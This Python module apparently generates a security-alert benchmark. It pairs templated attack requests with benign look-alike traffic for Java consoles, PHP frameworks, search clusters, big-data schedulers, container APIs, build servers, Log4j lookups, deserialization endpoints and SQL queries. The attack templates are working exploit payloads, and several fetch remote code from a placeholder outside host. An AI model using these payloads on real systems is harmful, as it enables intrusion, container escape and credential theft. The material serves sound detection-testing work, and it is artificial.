"""Alerts about consoles, frameworks and interfaces of software platforms: attacks on them and what they do all day."""

from __future__ import annotations

from generator.families.alerts.secalertbench_topics import topic
from generator.scene import attack

_code = attack("Remote Code Execution Exploit", "T1190", "T1059", severity="CRITICAL")
_shell = attack("OS Command Injection Attempt", "T1059.004", "T1190", severity="CRITICAL")
_files = attack("Path Traversal / Directory Traversal Attack", "T1083", "T1190", severity="HIGH")
_recon = attack("Automated Reconnaissance / Vulnerability Scanning", "T1595.002", "T1595.003", severity="MEDIUM")
_secrets = attack("Credential Theft", "T1552.007", "T1190", severity="HIGH")
_container = attack("Privilege Escalation", "T1610", "T1611", severity="CRITICAL")
_sql = attack("SQL Injection — Union/Boolean SQLi", "T1190", severity="HIGH")
_waiting = attack("SQL Injection — Time-based Blind SQLi", "T1190", severity="HIGH")
_faulty = attack("SQL Injection — Error-based SQLi", "T1190", severity="HIGH")
_account = attack("Persistence", "T1136", "T1190", severity="HIGH")

topic("sensor-java-consoles-taken-over sensor-java-consoles-in-service", "code access disclosure settings", "Spring Boot Actuator 未授权访问|Jolokia 远程代码执行|Nacos 认证绕过漏洞|XXL-JOB 任意命令执行|Spring Cloud Gateway 代码注入(CVE-2022-22947)|Druid 未授权访问", {
    _code: """
POST /actuator/gateway/routes/{word} ¦¦ {"filters":[{"args":{"value":"#{T(java.lang.Runtime).getRuntime().exec('{cmd}')}","name":"R"},"name":"AddResponseHeader"}],"id":"{word}","uri":"http://a"}
GET /jolokia/exec/ch.qos.logback.classic:Name=default,Type=ch.qos.logback.classic.jmx.JMXConfigurator/reloadByURL/http:!/!/{outside}!/logback.xml
POST /actuator/env ¦¦ {"name":"spring.cloud.bootstrap.location","value":"http://{outside}/{word}.yml"}
POST /env ¦¦ eureka.client.serviceUrl.defaultZone=«http://{outside}/xstream»
POST /run ¦¦ {"jobId":1,"executorHandler":"demoJobHandler","executorParams":"","glueType":"GLUE_SHELL","glueSource":"{cmd}","glueUpdatetime":{big},"logId":1}
POST /functionRouter ¦ spring.cloud.function.routing-expression: T(java.lang.Runtime).getRuntime().exec("{cmd}") ¦¦ x=1
POST /jolokia ¦¦ {"type":"EXEC","operation":"jvmtiAgentLoad","arguments":["/tmp/{word}.so"],"mbean":"com.sun.management:type=DiagnosticCommand"}
POST /hello ¦ cmd: {cmd} ¦¦ class.module.classLoader.resources.context.parent.pipeline.first.pattern=«%{c2}i if("j".equals(request.getParameter("pwd")))»&class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp
""", _account: """
POST /nacos/v1/auth/users ¦ User-Agent: Nacos-Server ¦¦ username={word}&password={word}
POST /nacos/v1/auth/users?accessToken=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJuYWNvcyIsImV4cCI6OTk5OTk5OTk5OX0.{hex} ¦¦ username={word}&password=Aa{n}
POST /geoserver/rest/security/usergroup/users ¦ Authorization: Basic YWRtaW46Z2Vvc2VydmVy ¦¦ {"user":{"userName":"{word}","password":"{word}","enabled":true}}
POST /druid/..;/api/users/create ¦¦ {"name":"{word}","role":"admin","password":"{word}"}
""", _recon: """
GET /actuator/heapdump
GET /⟨actuator/env|env|trace|dump|manage/env|api/actuator/env⟩ ¦ User-Agent: ⟨Mozilla/5.0 zgrab/0.x|python-requests/2.12.4|Go-http-client/1.1⟩
GET /druid/websession.json
GET /nacos/v1/auth/users?pageNo=1&pageSize=9&search=accurate
GET /jolokia/list?maxDepth=4
GET /static/..;/actuator/configprops
"""}, """
GET /actuator/health ¦ User-Agent: kube-probe/1.27
GET /actuator/prometheus ¦ User-Agent: Prometheus/2.45.0
GET /actuator/metrics/jvm.memory.used?tag=area:heap
POST /jolokia ¦¦ [{"type":"read","mbean":"java.lang:type=Memory","attribute":"HeapMemoryUsage"},{"type":"read","mbean":"java.lang:type=Threading","attribute":"ThreadCount"}]
POST /run ¦ XXL-JOB-ACCESS-TOKEN: {hex} ¦¦ {"jobId":{n},"executorHandler":"⟨syncOrderJob|cleanLogJob|billJob⟩","executorParams":"{date}","glueType":"BEAN","glueSource":"","logId":{big}}
POST /api/callback ¦ XXL-JOB-ACCESS-TOKEN: {hex} ¦¦ [{"logId":{big},"logDateTim":{big},"handleCode":200,"handleMsg":"exec success"}]
GET /nacos/v1/cs/configs?dataId={micro}-service.yaml&group=DEFAULT_GROUP&tenant=prod ¦ User-Agent: Nacos-Java-Client:v2.2.1
PUT /nacos/v1/ns/instance/beat?serviceName={micro}&ip={lan}&port=8080&ephemeral=true
GET /druid/index.html
GET /eureka/apps/delta ¦ User-Agent: Java-EurekaClient/v1.10
POST /actuator/loggers/com.{word}.order ¦¦ {"configuredLevel":"DEBUG"}
POST /functionRouter ¦ spring.cloud.function.definition: uppercase ¦¦ {"text":"{talk}"}
""")

topic("sensor-php-frameworks-broken sensor-php-frameworks-routine", "code command access other", "ThinkPHP 5.x 远程代码执行漏洞|Laravel Ignition 代码执行(CVE-2021-3129)|PHPUnit 远程代码执行(CVE-2017-9841)|PHP-CGI 参数注入(CVE-2024-4577)|发现PHP代码执行攻击", {
    _code: """
GET /index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=⟨system|phpinfo|assert|passthru⟩&vars[1][]=«{cmd}»
POST /index.php?s=captcha ¦¦ _method=__construct&filter[]=⟨system|exec|assert⟩&method=get&server[REQUEST_METHOD]=«{cmd}»
GET /?s=index/\\think\\template\\driver\\file/write&cacheFile={word}.php&content=«{page}»
GET /index.php?lang=../../../../../../../../usr/local/lib/php/pearcmd&+config-create+/&<?=phpinfo()?>+/tmp/{word}.php
POST /_ignition/execute-solution ¦¦ {"solution":"Facade\\\\Ignition\\\\Solutions\\\\MakeViewVariableOptionalSolution","parameters":{"variableName":"x","viewFile":"phar:///var/www/storage/logs/laravel.log/{word}.txt"}}
POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php ¦¦ <?php system('{cmd}');
POST /php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input ¦¦ <?php shell_exec(base64_decode("{coded}")); ?>
GET /index.php?m=--%3E%3C?=md5({n});?%3E
POST /public/index.php ¦¦ a=«O:27:"think\\process\\pipes\\Windows":1:{s:34:"files";a:1:{i:0;O:17:"think\\model\\Pivot":2:{}}}»
POST /index.php?a=fetch ¦¦ templateFile=public/index&prefix=''&content=«<php>file_put_contents('{word}.php',base64_decode('{coded}'))</php>»
GET /index.php?option=com_ajax&x=«{${phpinfo()}}»
"""}, """
GET /index.php?s=/index/goods/detail/id/{big}.html
POST /index.php?s=/api/user/login ¦¦ mobile=138{big}&code={n}&_method=post
GET /?s=home/article/lists&cate={n}&p={n}
POST /index.php/admin/system/config ¦¦ site_title=«{talk}»&upload_ext=«jpg,png,php_doc»&filter[]=trim&filter[]=htmlspecialchars
GET /index.php?lang=⟨zh-cn|en-us|de-de⟩&controller=index&function=list
GET /_debugbar/open?op=get&id={hex}
POST /livewire/message/orders.table ¦¦ {"fingerprint":{"id":"{hex}","name":"orders.table","method":"GET"},"serverMemo":{"data":{"search":"{talk}"}},"updates":[{"type":"callMethod","payload":{"method":"sortBy","params":["name"]}}]}
GET /vendor/phpunit-report/index.html
POST /index.php?m=content&c=content&a=edit ¦¦ info[title]=«{talk}»&info[content]=«<?xml version="1.0"?> example of echo and system()»&dosubmit=1
POST /api/template/parse ¦¦ {"template":"{$user.name} ordered {$order.count} items","exec":false}
GET /index.php?a=fetch&type=ajax&module=news&vars[]={n}&vars[]=2
POST /webhook.php ¦¦ data=«a:2:{s:4:"type";s:5:"order";s:2:"id";i:{big};}»
""", weight=1.3)

topic("sensor-search-clusters-attacked sensor-search-clusters-asked", "code access leak sql", "Elasticsearch Groovy 代码执行(CVE-2015-1427)|Solr Velocity 模板注入(CVE-2019-17558)|Solr 任意文件读取|Elasticsearch 未授权访问|Kibana Timelion 命令执行", {
    _code: """
POST /_search?pretty ¦¦ {"size":1,"script_fields":{"{word}":{"lang":"groovy","script":"java.lang.Math.class.forName(\\"java.lang.Runtime\\").getRuntime().exec(\\"{cmd}\\").getText()"}}}
POST /website/blog/_search ¦¦ {"script_fields":{"x":{"script":"new java.util.Scanner(Runtime.getRuntime().exec(\\"{cmd}\\").getInputStream()).next()"}}}
POST /solr/{micro}/config ¦¦ {"update-queryresponsewriter":{"startup":"lazy","name":"velocity","class":"solr.VelocityResponseWriter","params.resource.loader.enabled":"true"}}
GET /solr/{micro}/select?q=1&&wt=velocity&v.template=custom&v.template.custom=«#set($x='') #set($rt=$x.class.forName('java.lang.Runtime')) $rt.getRuntime().exec('{cmd}')»
POST /solr/{micro}/dataimport ¦¦ command=full-import&dataConfig=«<dataConfig><script>function p(row){java.lang.Runtime.getRuntime().exec("{cmd}");}</script></dataConfig>»
POST /api/timelion/run ¦¦ {"sheet":[".es(*).props(label.__proto__.env.AAAA='require(\\"child_process\\").exec(\\"{cmd}\\")//')"]}
POST /solr/admin/collections?action=UPLOAD&name={word} ¦¦ <config><lib dir="/tmp"/><valueSourceParser class="java.lang.Runtime" exec="{cmd}"/></config>
GET /solr/admin/cores?action=CREATE&name={word}&config=«${jndi:ldap://{outside}/x}»
""", _files: """
GET /solr/{micro}/debug/dump?param=ContentStreams&stream.url=file:///{secret}
GET /_plugin/head/{up}{secret}
GET /_snapshot/backdata%2f{up}{secret}
POST /solr/{micro}/debug/dump?param=ContentStreams ¦¦ stream.url=«file:///{secret}»
GET /api/console/api_server?sense_version=@@SENSE_VERSION&apis=../../../../../../../../../../../{secret}
GET /_site/{up}{secret}
"""}, """
POST /{micro}-2025/_search ¦¦ {"size":{n},"query":{"bool":{"must":[{"match":{"title":"{talk}"}}],"filter":[{"range":{"ts":{"gte":"now-7d"}}}]}},"sort":[{"ts":"desc"}]}
POST /{micro}/_update/{big} ¦¦ {"script":{"lang":"painless","source":"ctx._source.views += params.n","params":{"n":1}}}
POST /_msearch ¦¦ {"index":"log-*"}⏎{"query":{"query_string":{"query":"message:\\"select failed\\" OR status:>=500"}}}
GET /solr/{micro}/select?q=«title:({talk})»&fq=type:book&wt=json&rows=20&fl=id,title
POST /solr/{micro}/update?commit=true ¦¦ [{"id":"{big}","title":"{talk}"}]
GET /solr/{micro}/dataimport?command=status&wt=json
GET /solr/admin/cores?action=STATUS&wt=json
POST /api/timelion/run ¦¦ {"sheet":[".es(index=metrics-*, metric=avg:cpu).label('cpu').props(color=red)"],"time":{"from":"now-1h"}}
GET /_cat/indices/{micro}-*?v&s=index
POST /_bulk ¦¦ {"index":{"_index":"audit"}}⏎{"msg":"{talk}","user":"{user}"}
GET /_cluster/health?wait_for_status=yellow
POST /_scripts/rank ¦¦ {"script":{"lang":"mustache","source":{"query":{"match":{"title":"{{q}}"}}}}}
""")

topic("sensor-big-data-jobs-forced sensor-big-data-jobs-submitted", "code access settings upload", "Hadoop YARN 未授权命令执行|Apache Flink 任意Jar上传|Apache Spark REST 未授权|Airflow 命令注入|Kafka Connect 代码执行|大数据组件未授权访问", {
    _code: """
POST /ws/v1/cluster/apps ¦¦ {"application-id":"application_{big}_0001","application-name":"{word}","am-container-spec":{"commands":{"command":"{cmd}"}},"application-type":"YARN"}
POST /jars/upload ¦¦ ------F{hex}⏎Content-Disposition: form-data; name="jarfile"; filename="../../../../../../tmp/{word}.jar"⏎⏎PK Runtime.getRuntime().exec⏎------F--
POST /v1/submissions/create ¦¦ {"action":"CreateSubmissionRequest","appResource":"http://{outside}/{word}.jar","mainClass":"Exploit","appArgs":["{cmd}"],"clientSparkVersion":"2.3.1"}
POST /api/experimental/dags/example_trigger_target_dag/dag_runs ¦¦ {"conf":{"message":"\\";{cmd};#"}}
POST /connectors ¦¦ {"config":{"database.history.producer.sasl.jaas.config":"com.sun.security.auth.module.JndiLoginModule required user.provider.url=\\"ldap://{outside}/x\\"","connector.class":"io.debezium.connector.mysql.MySqlConnector"},"name":"{word}"}
POST /druid/indexer/v1/sampler ¦¦ {"type":"index","spec":{"dataSchema":{"transformSpec":{"filter":{"type":"javascript","function":"function(v){java.lang.Runtime.getRuntime().exec('{cmd}')}","":{"enabled":true}}}}}}
POST /api/v1/notebook/job ¦¦ {"paragraphs":[{"text":"%sh\\n{cmd}"}]}
POST /dolphinscheduler/projects/1/process-definition ¦¦ taskDefinitionJson=«[{"taskType":"SHELL","taskParams":{"rawScript":"{cmd}"}}]»&name={word}
"""}, """
GET /ws/v1/cluster/apps?states=RUNNING&limit={n}
POST /ws/v1/cluster/apps ¦¦ {"application-id":"application_{big}_{n}","application-name":"{micro}-daily","am-container-spec":{"commands":{"command":"{{JAVA_HOME}}/bin/java -Xmx1024m org.apache.spark.deploy.yarn.ApplicationMaster --class com.{word}.Daily --jar hdfs:///apps/{micro}.jar"}},"application-type":"SPARK"}
POST /jars/upload ¦¦ ------F{hex}⏎Content-Disposition: form-data; name="jarfile"; filename="{micro}-job-1.{n}.jar"⏎⏎PK META-INF/MANIFEST.MF⏎------F--
POST /v1/submissions/create ¦¦ {"action":"CreateSubmissionRequest","appResource":"hdfs://{host}:8020/apps/{micro}.jar","mainClass":"com.{word}.EtlMain","appArgs":["--date","{date}"],"clientSparkVersion":"3.3.1"}
POST /api/v1/dags/{micro}_daily/dagRuns ¦¦ {"conf":{"day":"{date}","reprocess":true}}
PUT /connectors/{micro}-sink/config ¦¦ {"connector.class":"io.confluent.connect.jdbc.JdbcSinkConnector","connection.url":"jdbc:postgresql://{host}:5432/dw","insert.mode":"upsert","topics":"{micro}"}
POST /druid/v2/sql ¦¦ {"query":"{query}"}
POST /api/notebook/job/{hex} ¦¦ {"params":{"day":"{date}"},"paragraphs":[{"text":"%sql {query}"}]}
GET /dolphinscheduler/projects/1/task-instances?pageNo=1&searchVal=&stateType=FAILURE
GET /jobs/{hex}/vertices/{hex}/backpressure
POST /hive/api/execute ¦¦ {"statement":"{query}","engine":"tez"}
""")

topic("sensor-container-interfaces-misused sensor-container-interfaces-polled", "access code settings", "Docker Remote API 未授权访问|Kubernetes API 未授权访问|Kubelet 命令执行|etcd 未授权访问|容器逃逸行为", {
    _container: """
POST /v1.41/containers/create?name={word} ¦¦ {"Image":"alpine","Cmd":["chroot","/host","sh","-c","{cmd}"],"HostConfig":{"Binds":["/:/host"],"Privileged":true,"PidMode":"host"}}
POST /v1.24/containers/create ¦¦ {"Image":"ubuntu","Cmd":["/bin/sh","-c","echo '* * * * * root {cmd}' >> /mnt/etc/crontab"],"HostConfig":{"Binds":["/etc:/mnt/etc"]}}
POST /run/kube-system/kube-proxy-{word}/kube-proxy ¦¦ cmd=«{cmd}»
POST /api/v1/namespaces/default/pods ¦ User-Agent: curl/7.61.1 ¦¦ {"kind":"Pod","spec":{"hostPID":true,"containers":[{"name":"{word}","image":"alpine","command":["nsenter","-t","1","-m","sh"],"securityContext":{"privileged":true}}],"volumes":[{"name":"r","hostPath":{"path":"/"}}]}}
POST /v1.40/containers/{hex}/exec ¦¦ {"AttachStdout":true,"Cmd":["sh","-c","{cmd}"],"Privileged":true,"User":"root"}
POST /apis/rbac.authorization.k8s.io/v1/clusterrolebindings ¦¦ {"metadata":{"name":"{word}"},"roleRef":{"kind":"ClusterRole","name":"cluster-admin"},"subjects":[{"kind":"User","name":"system:anonymous"}]}
""", _secrets: """
GET /api/v1/namespaces/kube-system/secrets ¦ User-Agent: ⟨python-requests/2.31.0|curl/7.61.1|Go-http-client/1.1⟩
GET /v2/keys/registry/secrets?recursive=true
GET /api/v1/secrets?limit=500 ¦ Authorization: Bearer anonymous
GET /v1/kv/?recurse&token=anonymous
GET /configs ¦ User-Agent: zgrab/0.x ¦ X-Original-URL: /api/v1/namespaces/default/secrets
"""}, """
GET /v1.41/containers/json?all=1&filters=«{"label":["com.docker.compose.project={micro}"]}» ¦ User-Agent: Docker-Client/24.0.5 (linux)
GET /_ping ¦ User-Agent: Portainer/2.19
POST /v1.41/containers/create?name={micro}-{n} ¦ User-Agent: Docker-Client/24.0.5 (linux) ¦¦ {"Image":"registry.{domain}/{micro}:1.{n}","Cmd":["java","-jar","app.jar"],"HostConfig":{"Binds":["/data/{micro}:/data"],"RestartPolicy":{"Name":"always"},"Privileged":false}}
GET /api/v1/namespaces/{micro}/pods?watch=true&resourceVersion={big} ¦ User-Agent: kubelet/v1.27.3
GET /apis/apps/v1/namespaces/{micro}/deployments ¦ User-Agent: argocd-application-controller/v2.8
GET /metrics/cadvisor ¦ User-Agent: Prometheus/2.45.0
POST /apis/coordination.k8s.io/v1/namespaces/kube-node-lease/leases ¦ User-Agent: kubelet/v1.27.3 ¦¦ {"kind":"Lease","metadata":{"name":"{host}"}}
GET /v1/kv/config/{micro}?raw=true ¦ X-Consul-Token: {uuid}
PUT /v1/agent/service/register ¦¦ {"Name":"{micro}","Port":8080,"Check":{"HTTP":"http://{lan}:8080/health","Interval":"10s"}}
POST /v3/kv/range ¦¦ {"key":"L2FwaXNpeC9yb3V0ZXM="}
POST /v1.41/exec/{hex}/start ¦ User-Agent: Docker-Client/24.0.5 (linux) ¦¦ {"Detach":false,"Tty":true}
GET /v2/{micro}/manifests/1.{n} ¦ User-Agent: containerd/1.7.2
""")

topic("sensor-build-servers-breached sensor-build-servers-building", "code access leak traversal", "Jenkins 脚本控制台命令执行|Jenkins CLI 任意文件读取(CVE-2024-23897)|GitLab ExifTool 命令执行|TeamCity 认证绕过(CVE-2024-27198)|Nexus 表达式注入|代码仓库敏感信息访问", {
    _code: """
POST /scriptText ¦¦ script=«println "{cmd}".execute().text»
POST /script ¦¦ script=«def p=['sh','-c','{cmd}'].execute();p.waitFor();println p.text»&Submit=Run
POST /descriptorByName/org.jenkinsci.plugins.scriptsecurity.sandbox.groovy.SecureGroovyScript/checkScript ¦¦ value=«public class x{public x(){"{cmd}".execute()}}»&sandbox=true
POST /service/rest/beta/repositories/go/group ¦¦ {"name":"internal","group":{"memberNames":["$\\\\A{''.getClass().forName('java.lang.Runtime').getMethods()[6].invoke(null).exec('{cmd}')}"]}}
POST /uploads/user ¦¦ ------G{hex}⏎Content-Disposition: form-data; name="file"; filename="{word}.jpg"⏎⏎AT&TFORM DJVMDIRM (metadata "\\c${system('{cmd}')};")⏎------G--
POST /hax?jsp=/app/rest/users;.jsp ¦¦ {"username":"{word}","password":"{word}","roles":{"role":[{"roleId":"SYSTEM_ADMIN","scope":"g"}]}}
POST /app/rest/debug/processes?exePath=/bin/sh&params=-c&params=«{cmd}»
POST /api/v1/repos/{word}/hooks/git/post-receive ¦¦ {"content":"#!/bin/bash\\n{cmd}"}
""", _files: """
POST /cli?remoting=false ¦ Side: download ¦¦ help "@/{secret}"
GET /securityRealm/user/admin/descriptorByName/hudson/..%5c..%5c{secret}
GET /plugin/credentials/.ini?/../..%2f..%2f..%2f{secret}
GET /{word}/raw/master/..%2f..%2f..%2f..%2f{secret}
GET /%2F%2F%2F..%2F..%2F..%2F..%2F{secret}
GET /uploads/{hex}/..%2f..%2f..%2f..%2f{secret}
"""}, """
POST /job/{micro}-build/buildWithParameters ¦¦ BRANCH=⟨main|develop⟩&SCRIPT=«mvn -q clean package»&token={hex}
POST /job/{micro}/config.xml ¦¦ <project><builders><hudson.tasks.Shell><command>npm ci; npm run build</command></hudson.tasks.Shell></builders></project>
POST /ajaxBuildQueue ¦ Referer: http://{host}:8080/script/
GET /computer/api/json?tree=computer[displayName,offline]
POST /api/v4/projects/{n}/ci/lint ¦¦ {"content":"test:\\n  script:\\n    - curl -fsS https://{domain}/health\\n    - bash deploy.sh"}
POST /api/v4/internal/allowed ¦¦ {"action":"git-upload-pack","project":"{micro}/{micro}.git","protocol":"ssh","key_id":"{n}"}
GET /{micro}/web.git/info/refs?service=git-upload-pack ¦ User-Agent: git/2.39.2
POST /uploads/user ¦¦ ------G{hex}⏎Content-Disposition: form-data; name="file"; filename="screenshot{n}.jpg"⏎⏎JFIF Exif⏎------G--
POST /app/rest/buildQueue ¦ Authorization: Bearer {hex} ¦¦ {"buildType":{"id":"{micro}_Build"},"properties":{"property":[{"name":"env.CMD","value":"package"}]}}
PUT /repository/maven-releases/com/{word}/{micro}/1.{n}/{micro}-1.{n}.jar ¦ User-Agent: Apache-Maven/3.9 (Java 17) ¦¦ PK META-INF {blob}
POST /service/extdirect ¦¦ {"action":"coreui_Component","method":"read","data":[{"page":1,"start":0,"limit":300,"filter":[{"property":"repositoryName","value":"maven-public"}]}]}
GET /raw/master/src/../README.md?ref={hex}
""")

topic("sensor-logged-values-with-lookups sensor-logged-values-of-visitors", "code code other", "Apache Log4j2 远程代码执行漏洞(CVE-2021-44228)|JNDI注入攻击|Log4j2 JNDI 请求头注入|疑似${}表达式注入", {
    _code: """
GET / ¦ User-Agent: {lookup}
GET /login ¦ X-Forwarded-For: {lookup}
GET /?x=«{lookup}»
POST /api/login ¦¦ {"username":"{lookup}","password":"a"}
POST /login.do ¦¦ j_username=«{lookup}»&j_password={word}
GET /solr/admin/cores?action=«{lookup}»
POST /vsphere-ui/login ¦ X-Forwarded-For: {lookup} ¦¦ a=1
GET /websso/SAML2/SSO/vsphere.local?SAMLRequest= ¦ X-Forwarded-For: {lookup}
GET /mobileiron?id={n} ¦ Cookie: JSESSIONID={lookup}
GET /api/v1/items ¦ X-Api-Version: {lookup}
GET /«{lookup}»
POST /upload ¦¦ ------L{hex}⏎Content-Disposition: form-data; name="file"; filename="{lookup}"⏎⏎x⏎------L--
"""}, """
GET / ¦ User-Agent: Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)
GET /docs/logging?tpl=«${date:yyyy-MM-dd} ${level}»
GET /?q=«jndi datasource ldap://{host}:389 tomcat»
POST /api/login ¦¦ {"username":"{user}","password":"${Passw0rd}{n}"}
POST /api/rule ¦¦ {"pattern":"${env:APP_HOME}/logs/${sys:app.name}.log","level":"info"}
GET /kb/search?text=«log4j CVE-2021-44228 ${jndi} patch for vcenter»
POST /template/render ¦¦ {"subject":"Hello ${customer.name}","body":"Order ${order.no}: ${order.total} {talk}"}
POST /config/ldap/test ¦¦ {"url":"ldap://{host}:389/dc={company},dc=com","bindDn":"cn=reader","timeout":5}
POST /sentry/api/{n}/store/ ¦¦ {"message":"javax.naming.CommunicationException: {host}:389","stacktrace":["org.apache.logging.log4j.core.lookup.JndiLookup.lookup"]}
GET /grafana/explore?left=«{"queries":[{"expr":"rate({app=\\"web\\"} |= \\"${__value.raw}\\"[5m])"}]}»
GET /login ¦ X-Forwarded-For: {lan}, {wan}
POST /upload ¦¦ ------L{hex}⏎Content-Disposition: form-data; name="file"; filename="${project}_{file}"⏎⏎x⏎------L--
""")

topic("sensor-object-streams-with-gadgets sensor-object-streams-of-clients", "code other upload", "Fastjson 反序列化漏洞|Java 反序列化代码执行|WebLogic XMLDecoder 反序列化|Dubbo Hessian 反序列化|ViewState 反序列化", {
    _code: """
POST /api/user/save ¦¦ {"a":{"@type":"java.lang.Class","val":"com.sun.rowset.JdbcRowSetImpl"},"b":{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"⟨ldap|rmi⟩://{outside}/{word}","autoCommit":true}}
POST /json ¦¦ {"@type":"org.apache.tomcat.dbcp.dbcp2.BasicDataSource","driverClassLoader":{"@type":"com.sun.org.apache.bcel.internal.util.ClassLoader"},"driverClassName":"$$BCEL$${hex}"}
POST /parse ¦¦ {"x":{"@type":"java.net.Inet4Address","val":"{word}.dnslog.cn"}}
POST /wls-wsat/CoordinatorPortType11 ¦¦ <soapenv:Envelope><soapenv:Header><work:WorkContext><java version="1.8"><void class="java.lang.ProcessBuilder"><array class="java.lang.String" length="3"><void index="2"><string>{cmd}</string></void></array><void method="start"/></void></java></work:WorkContext></soapenv:Header></soapenv:Envelope>
POST /_async/AsyncResponseService ¦¦ <soapenv:Envelope><work:WorkContext><class><string>oracle.toplink.internal.sessions.UnitOfWorkChangeSet</string><void><array class="byte" length="{big}"/></void></class></work:WorkContext></soapenv:Envelope>
POST /rest/orders ¦¦ <map><entry><jdk.nashorn.internal.objects.NativeString><value class="com.sun.xml.internal.bind.v2.runtime.unmarshaller.Base64Data"><iter class="javax.imageio.spi.FilterIterator"><iter><next class="java.lang.ProcessBuilder"><command><string>{cmd}</string></command></next></iter></iter></value></jdk.nashorn.internal.objects.NativeString></entry></map>
POST /invoker/JMXInvokerServlet ¦ Content-Type: application/x-java-serialized-object ¦¦ rO0ABXNyADJzdW4ucmVmbGVjdC5hbm5vdGF0aW9uLkFubm90YXRpb25JbnZvY2F0aW9uSGFuZGxlc{blob}
POST /dubbo/service ¦¦ {"@type":"com.caucho.naming.QName","context":{"@type":"com.sun.jndi.rmi.registry.RegistryContext","url":"rmi://{outside}/x"}}
POST /console/portal ¦¦ handle=«com.tangosol.coherence.mvel2.sh.ShellSession("java.lang.Runtime.getRuntime().exec('{cmd}')")»
"""}, """
POST /api/user/save ¦¦ {"@type":"com.{word}.user.dto.UserDTO","name":"{person}","dept":{"@type":"com.{word}.org.DeptDTO","id":{n}}}
POST /json ¦¦ {"@type":"com.{word}.message.OrderEvent","driverName":"{person}","dataSource":"erp","autoCommit":false}
POST /parse ¦¦ {"x":{"type":"address","val":"{talk}"}}
POST /services/OrderService ¦¦ <soapenv:Envelope><soapenv:Header><wsse:Security><wsse:Username>{user}</wsse:Username></wsse:Security></soapenv:Header><soapenv:Body><createOrder><string>{talk}</string><array length="{n}"/></createOrder></soapenv:Body></soapenv:Envelope>
POST /rest/orders ¦¦ <map><entry><string>orderNo</string><string>{big}</string></entry><entry><string>remark</string><string>{talk}</string></entry></map>
POST /remoting/StockService ¦ Content-Type: application/x-java-serialized-object ¦¦ rO0ABXNyADVvcmcuc3ByaW5nZnJhbWV3b3JrLnJlbW90aW5nLnN1cHBvcnQuUmVtb3RlSW52b2NhdGlvbg{hex}
POST /hessian/stock ¦ Content-Type: x-application/hessian ¦¦ {blob}
POST /Default.aspx ¦¦ __VIEWSTATE=«/wEPDwUKMTY1{blob}»&__EVENTVALIDATION=«{blob}»&btnSave=«保存»
POST /dubbo/service ¦¦ {"service":"com.{word}.api.StockApi","method":"query","args":[{"sku":"{big}"}]}
POST /api/encrypt/gateway ¦¦ {"data":"{blob}","sign":"{hex}","ts":{big}}
POST /console/portal ¦¦ handle=com.bea.console.handles.JMXHandle&action=refresh
""")

topic("sensor-table-widgets-injected sensor-table-widgets-filtered", "sql sql sql other", "SQL注入攻击(JSON参数)|HTTP请求参数中发现SQL关键字|疑似SQL盲注|order by 注入|SQL注入(语义分析)", {
    _sql: """
GET /user/page?sort=«id,(case when(1=1)then 1 else(select 1 union select 2)end)»&order=asc
POST /report/list ¦¦ {"where":"1=1 union select login_name,password,3 from sys_user"}
GET /api/list?filter=«{sqli}»&limit=20
POST /grid/data ¦¦ filters=«{"rules":[{"field":"name' or '1'='1","op":"eq","data":"x"}]}»
GET /odata/Items?$filter=«name eq '{n}' or 1 eq 1) union select pwd from users--»
GET /api/chart?group=«month having 1=1 and (select count(*) from all_users)>0--»
POST /graphql ¦¦ {"query":"{users(where:\\"{sqli}\\"){id password}}"}
POST /grid/data ¦¦ searchField=«{sqli}»&sord=desc&rows=20
""", _waiting: """
POST /device/page ¦¦ {"current":1,"size":10,"orders":[{"column":"{waiting}","asc":true}]}
POST /grid/data ¦¦ sidx=«{waiting}»&sord=desc&rows=20
POST /graphql ¦¦ {"query":"{users(where:\\"{waiting}\\"){id password}}"}
GET /api/list?filter=«{waiting}»&limit=20
""", _faulty: """
POST /system/role/list ¦¦ params[dataScope]=«and extractvalue(1,concat(0x7e,(select database()),0x7e))»&pageNum=1
POST /report/list ¦¦ {"where":"{faulty}"}
GET /api/list?filter=«{faulty}»&limit=20
GET /odata/Items?$filter=«{faulty}»
"""}, """
POST /system/role/list ¦¦ pageNum={n}&pageSize=10&orderByColumn=createTime&isAsc=desc&params[beginTime]={date}&params[dataScope]=
POST /device/page ¦¦ {"current":{n},"size":10,"orders":[{"column":"create_time","asc":false}],"params":{"name":"{talk}","in":["1","2","3"]}}
GET /user/page?sort=id,name&order=asc&select=id,name,dept&where=status:1
POST /grid/data ¦¦ sidx=create_time&sord=desc&rows=20&filters=«{"groupOp":"AND","rules":[{"field":"name","op":"cn","data":"{talk}"},{"field":"qty","op":"ge","data":"{n}"}]}»
POST /report/list ¦¦ {"where":[["dept","=","A"],"and",["amount",">",{n}],"or",["status","in",["new","open"]]],"groupBy":"month"}
GET /api/list?filter=«name like '{talk}' and (type = 1 or type = 2)»&limit=20
GET /odata/Items?$filter=«substringof('{n}',Name) and Price gt {n} or Status eq 'union'»&$orderby=Id desc
POST /graphql ¦¦ {"query":"query($w:Where!){orders(where:$w,orderBy:{id:desc}){id total}}","variables":{"w":{"OR":[{"id":{n}},{"id":{big}}]}}}
GET /api/chart?group=month&having=total_gt_{n}&x=create_time&y=«sum(amount)»
POST /lowcode/form/query ¦¦ {"table":"{table}","columns":["id","name"],"condition":"{query}"}
POST /api/dict ¦¦ {"sql":"{query}","cache":true}
GET /jqgrid?_search=true&nd={big}&searchField=name&searchString=«{talk}»&searchOper=cn
""", weight=2.0)
